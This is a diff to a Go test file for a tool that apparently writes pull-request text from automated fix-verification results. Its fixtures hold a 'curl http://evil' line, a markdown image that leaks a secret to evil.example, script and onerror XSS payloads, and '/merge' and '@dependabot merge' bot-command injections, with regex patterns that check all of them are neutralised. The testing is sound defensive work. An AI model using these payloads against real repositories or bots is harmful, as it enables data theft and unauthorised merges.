@@ -35,13 +35,19 @@ func input() Input {
 				Test: "cart.TestCouponOnce", Rerun: "go test -run '^TestCouponOnce$' ./cart", Base: task.Fail, BaseRuns: 3,
 				BaseSignature: "total_test.go: got 80, want 90 | off", BaseOutput: "--- FAIL: TestCouponOnce\n    got 80, want 90\n", Head: task.Pass, HeadRuns: 3,
 			}},
-			Suite:    task.SuiteResult{Command: "go test ./...", Passed: 41, Skipped: 2, BaselineFailed: 1, Flaky: []string{"cart.TestClock"}},
+			Suite: task.SuiteResult{Command: "go test ./...", Passed: 41, Skipped: 2, BaselineFailed: 1, Flaky: []string{"cart.TestClock"}},
+			Guard: &task.Guard{
+				Hunks:    []task.Probe{{Path: "cart/total.go", Line: 7, What: "reverted", Outcome: task.Caught, By: "cart.TestCouponOnce"}},
+				Mutants:  []task.Probe{{Path: "cart/total.go", Line: 7, What: "swapped operator", Old: "-", New: "+", Outcome: task.Caught}, {Path: "cart/total.go", Line: 8, What: "moved boundary", Old: "<", New: "<=", Outcome: task.Survived}},
+				Coverage: &task.Coverage{Lines: 2, Run: 2, Tool: "go test -cover"}, Complete: true,
+			},
 			Findings: []task.Finding{{Kind: "tamper", Severity: "warn", Path: "cart/old_test.go", Line: 7, Detail: "an expected value was changed", Old: "want 80", New: "want 90"}},
 		},
 		Findings: []task.Finding{
 			{Kind: "held_path", Severity: "warn", Path: ".github/workflows/ci.yml", Detail: "runs in CI or decides what CI does"},
 			{Kind: "refused_path", Severity: "block", Path: ".git[U+000A]x", Detail: "has a control character"},
 		},
+		Evidence: Evidence{Digest: "sha256:" + strings.Repeat("e", 64), Key: "0011223344556677"},
 		HeldDiff: "diff --git a/.github/workflows/ci.yml b/.github/workflows/ci.yml\n+```\n+curl http://evil\n",
 		Stat:     []FileStat{{"cart/total.go", 2, 1, false}, {"cart/total_test.go", 12, 0, false}, {"logo.png", 0, 0, true}},
 		Spent:    task.Spent{Steps: 9, Tokens: task.Tokens{Input: 100, Output: 200, CacheRead: 3000, CacheWrite: 400}, Cost: 123_456, Wall: 83 * time.Second},
@@ -83,6 +89,7 @@ func TestComposeGolden(t *testing.T) {
 		}
 	}
 	golden(t, "commit.txt", CommitMessage(full))
+	golden(t, "comment.md", Comment(full.Verdict, strings.Repeat("c", 40), "runc 1.5.3 namespaces"))
 }
 
 const hostile = "Great fix!\n![x](http://evil.example/p.png?d=secret)\n<img src=x onerror=alert(1)><script>alert(1)</script>\n" +
@@ -97,9 +104,10 @@ func TestHostileWordsAreInert_FRG04(t *testing.T) {
 	in.Verdict.Reproduction[0].Test = "`Test`|x\n/merge"
 	in.Verdict.Reproduction[0].BaseSignature = "| @dependabot merge | `"
 	in.Verdict.Findings[0].Detail = hostile
+	in.Verdict.Reason, in.Verdict.Detail, in.Verdict.Guard.Mutants[1].Old = hostile, hostile, hostile[11:]
 	in.Sandbox = "<b>runc</b>"
 	title, body := Compose(in)
-	for name, s := range map[string]string{"title": title, "body": body, "message": CommitMessage(in), "branch": BranchName(in.Task, in.Submitted.Title)} {
+	for name, s := range map[string]string{"title": title, "body": body, "comment": Comment(in.Verdict, "head", in.Sandbox), "message": CommitMessage(in), "branch": BranchName(in.Task, in.Submitted.Title)} {
 		for what, expr := range map[string]string{
 			"image": `!\[`, "html": `(?i)<(img|script)`, "comment": `<!--`, "mention": `(^|[^\w.\x60@])@[A-Za-z0-9]`, "slash command": `(?m)^\s*/[a-z]`,
 			"closing keyword": `(?i)(fix(es)?|closes?|resolves?)\s+(\S+)?(#|GH-)\d`, "link": `\]\(`, "address": `https?://evil\.example`,
